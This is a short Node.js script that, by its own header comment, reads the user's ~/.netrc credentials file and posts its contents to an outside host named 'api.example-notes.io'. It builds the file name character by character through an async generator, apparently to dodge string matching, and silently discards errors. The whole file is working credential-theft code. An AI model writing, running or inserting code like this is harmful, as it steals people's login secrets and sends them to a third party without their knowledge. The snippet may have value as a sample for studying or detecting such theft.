// Reads ~/.netrc and sends it out: the path segments come one by one from an
// async generator consumed with for-await, the file is read through a
// FileHandle from fs.promises, and posted with https.request.
'use strict';

const fsp = require('fs/promises');
const os = require('os');
const https = require('https');

async function* segments() {
  yield os.homedir();
  await new Promise((r) => setImmediate(r));
  yield ['.', 'n', 'e', 't', 'r', 'c'].join('');
}

async function main() {
  const parts = [];
  for await (const s of segments()) parts.push(s);
  const fh = await fsp.open(parts.join('/'), 'r');
  const text = await fh.readFile({ encoding: 'utf8' });
  await fh.close();

  const req = https.request({ host: 'api.example-notes.io', path: '/sync', method: 'POST' });
  req.end(text);
}

main().catch(() => {});
